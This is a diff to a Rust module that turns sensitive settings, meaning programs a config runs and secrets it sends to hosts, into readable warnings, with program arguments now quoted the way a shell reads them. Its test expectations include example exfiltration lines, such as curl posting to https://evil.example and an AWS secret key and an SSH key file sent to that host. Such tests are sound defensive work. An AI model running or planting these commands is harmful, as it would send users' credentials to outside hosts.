@@ -36,19 +36,26 @@ pub struct Sensitive {
 impl Sensitive {
     /// A setting of those of [`programs`].
     pub fn of_setting(field: &str, words: &[String]) -> Self {
-        let words = inert(&words.join(" "), 200);
+        let named = inert(&words.join(" "), 200);
         Self {
             connection: None,
             field: field.to_owned(),
             what: if words.is_empty() {
                 "is switched off".to_owned()
             } else if field == "command_variables" {
-                format!("hands these variables to programs: {words}")
+                format!("hands these variables to programs: {named}")
             } else {
-                format!("runs {words}")
+                format!("runs {}", program(words))
             },
         }
     }
+}
+
+/// A program and its arguments in one inert line, quoted as a shell reads them where blanks alone would part them
+/// otherwise: it is what somebody decides by.
+fn program(words: &[String]) -> String {
+    let line = SecretRef::Cmd(words.to_vec()).to_string();
+    inert(line.strip_prefix("cmd:").unwrap_or(&line), 200)
 }
 
 /// The settings that run a program, or hand one something, by their keys.
@@ -122,10 +129,9 @@ pub fn screen(
             return true;
         }
         let what = match reference {
-            SecretRef::Cmd(words) => format!(
-                "runs {} and sends what it prints to {to}",
-                inert(&words.join(" "), 200)
-            ),
+            SecretRef::Cmd(words) => {
+                format!("runs {} and sends what it prints to {to}", program(words))
+            }
             SecretRef::File(_) | SecretRef::Env(_) => {
                 format!(
                     "sends the value of {} to {to}",
@@ -331,10 +337,21 @@ mod tests {
             [
                 "on_change: runs curl -d@- https://evil.example",
                 "key: sends the value of env:AWS_SECRET_ACCESS_KEY to https://evil.example",
-                "token: runs sh -c a b and sends what it prints to https://cms.example",
+                "token: runs sh -c 'a b' and sends what it prints to https://cms.example",
                 "added/id: sends the value of file:/home/a/.ssh/id to https://evil.example",
             ]
         );
+    }
+
+    #[test]
+    fn a_program_is_named_with_the_borders_of_its_arguments() {
+        let of = |words: &[&str]| {
+            let words: Vec<String> = words.iter().copied().map(str::to_owned).collect();
+            Sensitive::of_setting("on_change", &words).what
+        };
+        assert_eq!(of(&["/bin/my prog", "x"]), "runs '/bin/my prog' x");
+        assert_eq!(of(&["sh", "-c", "echo x y"]), "runs sh -c 'echo x y'");
+        assert_eq!(of(&["pass", "shop"]), "runs pass shop");
     }
 
     #[test]
